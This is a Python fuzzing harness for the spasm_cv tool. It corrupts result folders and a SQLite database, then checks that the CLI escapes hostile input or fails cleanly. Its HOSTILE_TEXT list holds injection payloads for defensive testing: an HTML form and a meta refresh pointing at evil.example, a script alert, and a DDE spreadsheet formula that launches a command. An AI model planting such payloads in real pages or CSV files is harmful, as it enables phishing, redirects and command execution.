"""The fuzzing harness of issue 22: hostile edits of a valid result folder and monitor database,
and the commands that must meet them with a correct output or one line (exit 2).

Used by tests/test_fuzz.py (a few dozen examples in the fast loop) and by
benchmarks/fuzz_results.py (the long run, printing the cases tried). The valid inputs are made
once by the caller; each example copies them and applies one drawn edit (:func:`mutate_folder`,
:func:`mutate_db`), then runs one drawn command (:data:`FOLDER_COMMANDS`,
:data:`DB_COMMANDS`) through ``conftest.cli`` (in this process) and checks it
(:func:`check_outcome`).
"""

from __future__ import annotations

import contextlib
import copy
import csv
import functools
import gzip
import json
import math
import shutil
import sqlite3
from datetime import datetime, timezone
from pathlib import Path

from hypothesis import assume
from hypothesis import strategies as st

# text a hostile file may hold in any string: markup, spreadsheet formulas, control and
# layout characters, the files' own words in the wrong place, very long text
HOSTILE_TEXT = (
    '<form action="https://evil.example/"><input name=pw></form>',
    "<script>alert(1)</script>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "",
    " ",
    "n/a",
    "yes",
    "NaN",
    "inf",
    "-50",
    "1e12",
    "up",
    "garbage",
    "9.0",
    "\x00\x01",
    "\u202eevil",
    "a" * 5000,
)
HOSTILE_NUMBERS = (
    math.nan,
    math.inf,
    -math.inf,
    -1,
    -50,
    -5.0,
    0,
    1e12,
    1e308,
    2**63,
    10**30,
    0.5,
)
hostile_json = st.one_of(
    st.sampled_from(HOSTILE_TEXT),
    st.sampled_from(HOSTILE_NUMBERS),
    st.none(),
    st.booleans(),
    st.just([]),
    st.just({}),
    st.lists(st.sampled_from(HOSTILE_NUMBERS), max_size=3),
    st.text(max_size=12),
    st.floats(),
    st.integers(),
)
hostile_cell = st.one_of(
    st.sampled_from(HOSTILE_TEXT),
    st.sampled_from(HOSTILE_NUMBERS).map(str),
    st.text(max_size=12),
)

FOLDER_FILES = ("summary.json", "events.tsv", "events.json", "signals.csv.gz")
FOLDER_COMMANDS = (
    ("load",),
    ("report",),
    ("export", "csv"),
    ("export", "json"),
    ("export", "bids"),
    ("export", "elan"),
    ("review",),
)
DB_COMMANDS = (
    ("load_db",),
    ("report",),
    ("export", "csv"),
    ("export", "json"),
    ("export", "bids"),
)  # ELAN files link a video: monitor sessions have none (refused in one line)


# ------------------------------------------------------------------------- result folder


@functools.cache
def _simulated():
    """50 s of simulated signals with six one-sided episodes, and their detection, the last
    eye episode made a ``possible_spasm`` (so the valid inputs hold every trial type)."""
    import dataclasses

    from spasm_cv.events.detect import detect
    from spasm_cv.events.simulate import SimEpisode, simulate_signals
    from spasm_cv.events.table import POSSIBLE

    eps = tuple(
        SimEpisode(
            5.0 + 7 * i,
            ("right", "left")[i % 2],
            ("twitch", "clonic", "tonic")[i % 3],
            0.7,
            n_contractions=3 if i % 3 == 1 else 1,
            hold_s=1.2 if i % 3 == 2 else 0.08,
        )
        for i in range(6)
    )
    signals, _ = simulate_signals(50.0, 30.0, episodes=eps, seed=7)
    signals.meta["fps"] = 30.0
    det = detect(signals)
    last = max(i for i, e in enumerate(det.events) if e.is_episode)
    events = [
        dataclasses.replace(e, trial_type=POSSIBLE) if i == last else e
        for i, e in enumerate(det.events)
    ]
    return signals, dataclasses.replace(det, events=events)


def synthetic_result(root: Path) -> Path:
    """A result folder written by the real writers from simulated signals (no MediaPipe)."""
    from spasm_cv.pipeline import input_record
    from spasm_cv.results.files import write_folder
    from spasm_cv.results.recording import Recording
    from spasm_cv.results.summary import Summary
    from spasm_cv.video.reader import VideoInfo

    signals, det = copy.deepcopy(_simulated())
    video = root / "visit.mp4"
    video.write_bytes(b"\0" * 2048)  # not a video: review reads the folder, then refuses it
    info = VideoInfo(str(video), 640, 480, 30.0, len(signals), 0, "avc1")
    summary = Summary.of_analysis(
        signals,
        det,
        input_record(video, info, False),
        3.0,
        datetime(2026, 3, 4, 9, 30, tzinfo=timezone.utc),
    )
    out = root / "visit.spasm-cv"
    write_folder(out, Recording.from_analysis(signals, det, summary, out))
    return out


def simulated_detection():
    """The detection of :func:`synthetic_result`'s simulated signals."""
    return _simulated()[1]


def _paths(value, prefix=()) -> list[tuple]:
    """Every key path of a JSON document (objects and lists), the root excluded."""
    out = []
    if isinstance(value, dict):
        for k, v in value.items():
            out.append((*prefix, k))
            out.extend(_paths(v, (*prefix, k)))
    elif isinstance(value, list):
        for i, v in enumerate(value):
            out.append((*prefix, i))
            out.extend(_paths(v, (*prefix, i)))
    return out


def _mutate_json(doc, data) -> object:
    paths = _paths(doc)
    op = data.draw(st.sampled_from(("replace", "replace", "delete", "add", "whole")), "op")
    if op == "whole" or not paths:
        return data.draw(hostile_json, "document")
    path = data.draw(st.sampled_from(paths), "path")
    parent = doc
    for k in path[:-1]:
        parent = parent[k]
    if op == "replace":
        parent[path[-1]] = data.draw(hostile_json, "value")
    elif op == "delete":
        del parent[path[-1]]
    elif isinstance(parent, dict):
        parent[data.draw(st.sampled_from(HOSTILE_TEXT[:12]), "key")] = data.draw(hostile_json)
    else:
        parent.append(data.draw(hostile_json, "value"))
    return doc


def _mutate_table(lines: list[list[str]], data) -> list[list[str]]:
    op = data.draw(
        st.sampled_from(
            ("cell", "cell", "cell", "drop column", "add column", "short row", "extra row")
        ),
        "op",
    )
    row = data.draw(st.integers(0, len(lines) - 1), "row")
    col = data.draw(st.integers(0, len(lines[0]) - 1), "column")
    if op == "cell":
        lines[row][col] = data.draw(hostile_cell, "cell")
    elif op == "drop column":
        lines = [r[:col] + r[col + 1 :] for r in lines]
    elif op == "add column":
        lines = [
            [*r, data.draw(hostile_cell, "cell") if i else "extra"] for i, r in enumerate(lines)
        ]
    elif op == "short row":
        lines[row] = lines[row][:col]
    else:
        lines.append([data.draw(hostile_cell, "cell") for _ in lines[0]])
    return lines


def mutate_folder(folder: Path, data) -> str:
    """Apply one drawn hostile edit to a copy of a result folder; returns what it did."""
    name = data.draw(st.sampled_from(FOLDER_FILES), "file")
    p = folder / name
    if name.endswith(".json"):
        doc = _mutate_json(json.loads(p.read_text()), data)
        p.write_text(json.dumps(doc))
    elif name == "events.tsv":
        lines = [r.split("\t") for r in p.read_text().splitlines()]
        p.write_text("\n".join("\t".join(r) for r in _mutate_table(lines, data)) + "\n")
    else:
        raw = gzip.decompress(p.read_bytes())
        if data.draw(st.booleans(), "damage the gzip bytes"):
            packed = bytearray(p.read_bytes())
            at = data.draw(st.integers(0, len(packed) - 1), "byte")
            packed[at] ^= 0xFF
            p.write_bytes(bytes(packed[: data.draw(st.integers(at, len(packed)), "keep")]))
        else:
            lines = [r.split(",") for r in raw.decode().splitlines()]
            text = "\n".join(",".join(r) for r in _mutate_table(lines, data)) + "\n"
            p.write_bytes(gzip.compress(text.encode("utf-8", "surrogatepass")))
    return name


# ------------------------------------------------------------------------ monitor database


def make_db(db: Path, events) -> Path:
    """A valid monitor database: one finished 60 s session with ``events`` and one gap."""
    from helpers_monitor import write_session

    from spasm_cv.live.frames import Gap
    from spasm_cv.live.store import Batch, Store

    start = datetime(2026, 3, 4, 9, 30, tzinfo=timezone.utc)
    sid = write_session(db, [e for e in events if e.onset < 55], start, seconds=60.0)
    with Store(db) as store:
        store.write(sid, start.timestamp(), Batch.of(gaps=[Gap(20.0, 21.5, "camera lost")]))
    return db


DB_TABLES = ("sessions", "events", "minutes", "gaps")


def mutate_db(db: Path, data) -> str:
    """Apply one drawn hostile edit to a copy of a monitor database; returns what it did."""
    with contextlib.closing(sqlite3.connect(db, isolation_level=None)) as c:
        op = data.draw(
            st.sampled_from(("set", "set", "set", "add column", "delete", "version")), "op"
        )
        if op == "version":
            c.execute(f"PRAGMA user_version={data.draw(st.integers(-3, 5), 'version')}")
            return "user_version"
        table = data.draw(st.sampled_from(DB_TABLES), "table")
        if op == "delete":
            c.execute(f"DELETE FROM {table}")
            return table
        if op == "add column":
            c.execute(f"ALTER TABLE {table} ADD COLUMN extra_col TEXT")
            c.execute(f"UPDATE {table} SET extra_col=?", (data.draw(hostile_cell, "value"),))
            return table
        columns = [r[1] for r in c.execute(f"PRAGMA table_info({table})")]
        column = data.draw(st.sampled_from(columns), "column")
        value = data.draw(hostile_json, "value")
        if isinstance(value, (list, dict)):
            value = json.dumps(value)
        if isinstance(value, int) and not -(2**63) <= value < 2**63:
            value = float(value)
        try:
            c.execute(
                f"UPDATE {table} SET {column}=? WHERE rowid=(SELECT min(rowid) FROM {table})",
                (value,),
            )
        except sqlite3.IntegrityError:  # NOT NULL, or a key taken: the edit cannot be made
            assume(False)
        return f"{table}.{column}"


# ------------------------------------------------------------------------------- checking


def run_folder_command(command: tuple, folder: Path, out: Path):
    """Run one of :data:`FOLDER_COMMANDS` on ``folder``: (exit code, stderr)."""
    from conftest import cli

    from spasm_cv.api import load
    from spasm_cv.errors import SpasmCvError

    if command == ("load",):
        try:
            result = load(folder)
            result.signals  # noqa: B018 (read on first use)
        except SpasmCvError as exc:
            return 2, f"spasm-cv: error: {exc}\n"
        return 0, ""
    if command == ("report",):
        r = cli("report", folder, "--out", out / "report.html")
    elif command == ("review",):
        r = cli("review", folder, "--episodes-only", "--quiet", "--out", out / "episodes")
    else:
        r = cli("export", folder, "--format", command[1], "--out", out / command[1])
    return r.returncode, r.stderr


def run_db_command(command: tuple, db: Path, out: Path):
    """Run one of :data:`DB_COMMANDS` on ``db``: (exit code, stderr)."""
    from conftest import cli

    from spasm_cv.errors import SpasmCvError
    from spasm_cv.live.dataframes import load_db

    if command == ("load_db",):
        try:
            load_db(db)
        except SpasmCvError as exc:
            return 2, f"spasm-cv: error: {exc}\n"
        return 0, ""
    if command == ("report",):
        r = cli("report", "--db", db, "--out", out / "report.html")
    else:
        r = cli("export", "--db", db, "--format", command[1], "--out", out / command[1])
    return r.returncode, r.stderr


def folder_case(valid: Path, work: Path, data) -> tuple[str, int, str]:
    """One case: a copy of the result folder ``valid`` edited, then one command run on it.

    Returns what was done (edit and command), the exit code and what it printed on stderr.
    """
    folder = fresh_copy(valid, work / "r" / valid.name)
    what = mutate_folder(folder, data)
    command = data.draw(st.sampled_from(FOLDER_COMMANDS), "command")
    return _run(run_folder_command, command, folder, work, what)


def db_case(valid: Path, work: Path, data) -> tuple[str, int, str]:
    """One case: a copy of the monitor database ``valid`` edited, then one command run on it."""
    db = fresh_copy(valid, work / "monitor.sqlite")
    what = mutate_db(db, data)
    command = data.draw(st.sampled_from(DB_COMMANDS), "command")
    return _run(run_db_command, command, db, work, what)


def _run(run, command: tuple, source: Path, work: Path, what: str) -> tuple[str, int, str]:
    out = work / "out"
    shutil.rmtree(out, ignore_errors=True)
    code, err = run(command, source, out)
    leaks = payload_leaks(out) if code == 0 else []
    shutil.rmtree(out, ignore_errors=True)
    what = f"{' '.join(command)} after editing {what}"
    return (f"{what}; payloads written raw: {leaks}" if leaks else what), code, err


# Spreadsheet formulas in CSV cells are neutralised (issue 22 item 12,
# spasm_cv.results.spreadsheet): a "=..." cell in any CSV written is a failure.
CHECK_CSV_FORMULAS = True
MARKUP = tuple(t for t in HOSTILE_TEXT if t.startswith("<"))


def payload_leaks(out: Path) -> list[str]:
    """Hostile text written as it came: markup in HTML pages, formulas in CSV cells."""
    leaks = []
    for page in out.rglob("*.html"):
        leaks += [f"{page.name}: {m[:20]}" for m in MARKUP if m in page.read_text()]
    for table in out.rglob("*.csv") if CHECK_CSV_FORMULAS else ():
        with open(table, newline="", encoding="utf-8") as f:
            cells = [c for row in csv.reader(f) for c in row]
        leaks += [
            f"{table.name}: {c[:20]}"
            for c in cells
            if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not is_number(c)
        ]
    return leaks


def is_number(text: str) -> bool:
    """True when ``text`` reads as a number (a negative number is no formula)."""
    try:
        float(text)
    except ValueError:
        return False
    return True


def check_outcome(what: str, code: int, err: str) -> None:
    """A correct output (exit 0, no hostile text written raw: :func:`payload_leaks`) or one
    line ``spasm-cv: error: ...`` with exit 2; never a traceback or an internal error.
    Warnings (``spasm-cv: warning:``) may come first."""
    assert "Traceback" not in err and "internal error" not in err, f"{what}\n{err}"
    assert "payloads written raw" not in what, what
    if code == 0:
        return
    lines = [line for line in err.splitlines() if line.strip()]
    errors = [line for line in lines if not line.startswith("spasm-cv: warning:")]
    assert code == 2, f"{what}: exit {code}\n{err}"
    assert len(errors) == 1 and errors[0].startswith("spasm-cv: error: "), f"{what}\n{err}"


def fresh_copy(src: Path, dst: Path) -> Path:
    """``src`` (a folder or a database file) copied to ``dst`` (replaced if there)."""
    if dst.is_dir():
        shutil.rmtree(dst)
    for p in (dst, dst.with_name(dst.name + "-wal"), dst.with_name(dst.name + "-shm")):
        p.unlink(missing_ok=True)
    if src.is_dir():
        shutil.copytree(src, dst)
    else:
        shutil.copy2(src, dst)
    return dst
